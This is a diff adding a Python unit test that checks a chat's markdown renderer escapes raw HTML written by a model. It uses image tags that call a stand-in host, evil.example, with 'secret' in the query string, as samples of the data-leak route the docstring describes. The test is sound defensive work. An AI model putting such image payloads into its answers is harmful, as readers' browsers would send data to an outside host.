@@ -54,6 +54,23 @@ class TestMarkdownHtml(BaseCase):
         self.assertIn('<a href="https://evil.example/p.png?q=secret" rel="noopener noreferrer" '
                       'target="_blank">🖼️ leak</a>', html)
 
+    def test_html_the_model_writes_is_text_as_in_the_chat(self):
+        """The chat's markdown-it has ``html: false``: an answer's own tags show as text. Passed
+        through, a raw image of another site would be fetched by whoever reads the posted
+        answer (a live chat visitor, an operator), the model's URL included."""
+        for text in ('<img src="https://evil.example/x.png?d=secret">',
+                     'See <img src="https://evil.example/x.png?d=secret"> here',
+                     '<div>\n<img src="https://evil.example/x.png?d=secret">\n</div>'):
+            with self.subTest(text=text):
+                html = str(markdown_html(text))
+                self.assertNotIn("<img", html)
+                self.assertIn("&lt;img src=", html)
+        self.assertEqual(self.html("Use <b>bold</b> & <br> tags"),
+                         "<p>Use &lt;b&gt;bold&lt;/b&gt; &amp; &lt;br&gt; tags</p>")
+        # Markdown's own autolinks and entities stay.
+        self.assertEqual(self.html("<https://www.odoo.com> &copy;"),
+                         '<p><a href="https://www.odoo.com">https://www.odoo.com</a>&copy;</p>')
+
     def test_task_lists_and_footnotes_as_the_chat_shows_them(self):
         html = self.html("- [x] Check the invoices\n- [ ] Call Deco Addict\n\n"
                          "A footnote[^1].\n\n[^1]: The footnote text.")
